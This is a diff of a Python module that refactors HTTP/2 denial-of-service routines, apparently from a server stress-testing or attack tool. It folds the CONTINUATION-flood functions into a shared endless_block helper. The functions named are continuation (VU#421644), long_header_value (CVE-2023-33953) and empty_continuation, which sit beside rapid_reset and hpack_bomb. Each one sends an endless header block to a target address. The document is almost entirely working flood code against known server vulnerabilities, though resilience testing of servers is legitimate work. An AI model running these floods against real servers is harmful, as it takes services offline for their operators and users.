@@ -34,42 +34,33 @@ def rapid_reset(address, seconds):
     return flood(address, seconds, script)
 
 
-def continuation(address, seconds):
-    """Sends one endless header block of small headers (VU#421644)."""
-    fields = frames.header("a", "b") * (frames.FRAME_BYTES // 6)
-    more = frames.frame(frames.CONTINUATION, fields, stream=1) * 16
+def endless_block(address, seconds, more, start=b"", **options):
+    """Sends a header block that begins with `start` and goes on with `more` again and again."""
 
     def script():
-        yield OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM), stream=1)
+        yield OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM) + start, stream=1)
         while True:
             yield more
 
-    return flood(address, seconds, script)
+    return flood(address, seconds, script, **options)
+
+
+def continuation(address, seconds):
+    """Sends one endless header block of small headers (VU#421644)."""
+    fields = frames.header("a", "b") * (frames.FRAME_BYTES // 6)
+    return endless_block(address, seconds, frames.frame(frames.CONTINUATION, fields, stream=1) * 16)
 
 
 def long_header_value(address, seconds):
     """Sends one endless header value over CONTINUATION frames, on four connections (CVE-2023-33953)."""
     value = b"\x00" + frames.text("x") + frames.integer(1 << 30, 7)
     more = frames.frame(frames.CONTINUATION, b"v" * frames.FRAME_BYTES, stream=1) * 16
-
-    def script():
-        yield OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM) + value, stream=1)
-        while True:
-            yield more
-
-    return flood(address, seconds, script, connections=4)
+    return endless_block(address, seconds, more, value, connections=4)
 
 
 def empty_continuation(address, seconds):
     """Sends one endless header block of empty frames."""
-    more = frames.frame(frames.CONTINUATION, stream=1) * 10_000
-
-    def script():
-        yield OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM), stream=1)
-        while True:
-            yield more
-
-    return flood(address, seconds, script)
+    return endless_block(address, seconds, frames.frame(frames.CONTINUATION, stream=1) * 10_000)
 
 
 def hpack_bomb(address, seconds):
